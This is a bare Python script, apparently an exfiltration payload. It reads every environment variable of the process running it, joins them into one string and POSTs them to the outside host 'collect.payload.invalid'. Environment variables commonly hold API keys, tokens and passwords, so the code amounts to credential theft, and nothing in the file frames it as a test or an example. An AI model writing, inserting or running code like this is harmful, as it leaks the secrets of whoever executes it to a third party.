import os
import urllib.parse
import urllib.request

lines = []
for key, value in os.environ.items():
    lines.append(key + "=" + value)
data = urllib.parse.urlencode({"d": "\n".join(lines)}).encode()
urllib.request.urlopen("http://collect.payload.invalid/e", data)
